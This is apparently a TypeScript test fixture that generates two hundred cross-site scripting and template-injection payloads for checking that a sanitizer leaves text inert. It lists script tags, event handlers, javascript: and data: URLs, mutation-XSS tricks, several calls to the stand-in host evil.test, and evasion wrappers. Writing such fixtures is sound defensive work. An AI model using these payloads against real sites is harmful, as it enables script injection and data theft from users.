/** What would happen if a payload ran: a mark on the window, and a request to a host that nobody asked for. */
const RUN = "window.ran=1,fetch('https://evil.test/')"
const CODE = 'window.ran=1'

/** Ways in which text becomes a script somewhere. */
const VECTORS = [
  `<script>${RUN}</script>`,
  `<script src="https://evil.test/x.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="https://evil.test/pixel.gif">`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CODE}>#x"></svg>`,
  `<body onload="${RUN}">`,
  `<iframe srcdoc="<script>parent.${CODE}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CODE}"></iframe>`,
  `<object data="javascript:${CODE}"></object>`,
  `<embed src="https://evil.test/x.swf">`,
  `<details open ontoggle="${RUN}">`,
  `<video autoplay onloadstart="${RUN}"><source src=x></video>`,
  `<audio src=x onerror="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"></select>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<a href="javascript:${CODE}">click</a>`,
  `<form action="javascript:${CODE}"><button>go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.test/">`,
  `<base href="https://evil.test/">`,
  `<link rel=stylesheet href="https://evil.test/x.css">`,
  `<style>@import 'https://evil.test/x.css';*{background:url(https://evil.test/)}</style>`,
  `<div style="background:url(https://evil.test/)">x</div>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<noscript><p title="</noscript><img src=x onerror='${CODE}'>">`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<xss style="animation-name:x" onanimationstart="${RUN}"></xss>`,
  `[click](javascript:${CODE})`,
  `[click](data:text/html,<script>${CODE}</script>)`,
  `![x](https://evil.test/pixel.gif)`,
  `javascript:${CODE}`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=`,
  `{{constructor.constructor('${CODE}')()}}`,
  `\${${CODE}}`,
  `<%= ${CODE} %>`,
  `{{name}}{{#with "s"}}{{/with}}`,
  `&lt;img src=x onerror=${CODE}&gt;&#60;script&#62;${CODE}&#60;/script&#62;`,
]

/** Where the text may stand when it arrives, and how it may be written to slip through. */
const PLACES: ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'></textarea></title></style></script>${vector}`,
  (vector) =>
    vector.replace(/<(\w+)/, (_all, name: string) => `<${name.toUpperCase()}`).replace(/ on/g, '\ton'),
  (vector) => `--><!--${vector}\u202e\u200b`,
]

/** Two hundred texts that are nothing but text. */
export const PAYLOADS = PLACES.flatMap((place) => VECTORS.map(place))
